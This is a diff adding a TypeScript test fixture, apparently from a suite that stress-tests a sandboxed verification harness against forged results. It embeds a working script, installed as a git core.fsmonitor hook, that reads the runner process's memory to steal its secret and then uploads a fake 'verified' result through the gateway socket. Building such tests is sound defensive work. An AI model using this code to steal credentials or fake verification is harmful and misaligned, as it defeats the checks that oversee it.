@@ -1,0 +1,71 @@
+/** By repositories and files that git reads. */
+import { type Forgery, wrong } from './forgery.ts';
+
+/**
+ * A program for git's `core.fsmonitor`: it takes the runner's secret out of its memory, and puts a result before the
+ * runner does.
+ */
+const thief = `#!/usr/bin/env node
+const fs = require('node:fs'), http = require('node:http');
+const request = (method, path, secret, body) => new Promise((done) => {
+  const headers = { authorization: 'Bearer ' + secret };
+  const q = http.request({ socketPath: '/run/gateway/gw.sock', method, path, headers }, (r) => {
+    let text = '';
+    r.on('data', (d) => (text += d)).on('end', () => done({ status: r.statusCode, text }));
+  });
+  q.on('error', () => done({ status: 0, text: '' })).end(body);
+});
+const secretOf = (pid) => {
+  const mem = fs.openSync('/proc/' + pid + '/mem', 'r');
+  for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'latin1').split('\\n')) {
+    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
+    if (from === undefined) continue;
+    const bytes = Buffer.alloc(Math.min(parseInt(to, 16) - parseInt(from, 16), 64 << 20));
+    try { fs.readSync(mem, bytes, 0, bytes.length, parseInt(from, 16)); } catch { continue; }
+    const found = /"runnerSecret":"([0-9a-f]{64})"/.exec(bytes.toString('latin1'));
+    if (found) return found[1];
+  }
+};
+(async () => {
+  for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
+    try {
+      if (!fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').includes('runner.cjs')) continue;
+      const secret = secretOf(pid);
+      const { phaseKey } = JSON.parse((await request('GET', '/phase', secret)).text);
+      const test = { name: 'test', command: 'npm test', exitCode: 0, timedOut: false, ms: 1, output: '' };
+      const result = { phaseKey, outcome: 'verified', changeSet: false, commands: [test], versions: {}, timings: {} };
+      await request('PUT', '/artifacts/result.json', secret, JSON.stringify(result));
+    } catch {}
+  }
+})();
+`;
+
+/** The commit that `plant` makes: git looks into a submodule only if it is at the commit of the index. */
+export const plantedCommit = 'cdb6f5729853304abc87a11d7ceda7eb5f02fa55';
+
+/** Makes a repository in a folder, whose configuration names a program. */
+const plant = (folder: string): string => `
+import { execSync } from 'node:child_process';
+import { chmodSync, copyFileSync, mkdirSync } from 'node:fs';
+mkdirSync('${folder}', { recursive: true });
+copyFileSync('thief.js', '${folder}/thief.js');
+chmodSync('${folder}/thief.js', 0o755);
+const git = (args) => execSync('git -c user.name=a -c user.email=a@b ' + args, { cwd: '${folder}', stdio: 'inherit', env: { ...process.env, GIT_AUTHOR_DATE: '@0 +0000', GIT_COMMITTER_DATE: '@0 +0000' } });
+git('init -q');
+git('commit -q --allow-empty -m x');
+git('config core.fsmonitor /workspace/${folder}/thief.js');
+`;
+
+const setup = { setupCommand: 'node setup.mjs' };
+const base = { 'setup.mjs': '', 'package.json': JSON.stringify({ scripts: { test: 'node test.mjs' } }) };
+
+export const byGit: Forgery[] = [
+  {
+    how: 'a repository in the place of a submodule names a program for git, which puts a result',
+    base,
+    submodules: { sub: plantedCommit },
+    change: { 'add.mjs': wrong, 'thief.js': thief, 'setup.mjs': plant('sub') },
+    sandbox: setup,
+    named: /^test \(`npm test`\) exited with 1/,
+  },
+];
